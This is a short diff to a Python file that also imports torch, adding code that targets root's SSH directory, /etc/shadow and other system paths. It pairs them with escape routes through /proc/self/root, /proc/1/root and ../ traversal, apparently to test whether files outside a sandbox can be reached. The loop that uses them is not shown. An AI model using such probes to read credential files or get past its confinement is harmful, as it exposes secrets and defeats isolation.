@@ -8,11 +8,14 @@
 
 import glob
 import os
+import pwd
 
 import torch
 from torch import nn
 
-outside = ["/root/.bashrc", "/root/.ssh", "/etc/shadow", "/etc/hostname", "/home", "/var/log", "/boot"]
+home = pwd.getpwuid(0).pw_dir
+outside = [f"{home}/{name}" for name in (".bashrc", ".profile", ".ssh")]
+outside += ["/etc/shadow", "/etc/hostname", "/home", "/var/log", "/boot"]
 above = os.path.dirname(os.getcwd())
 ways = ["{}", "/proc/self/root{}", "/proc/1/root{}", "/proc/self/cwd/../../../../..{}"]
 for path in outside:
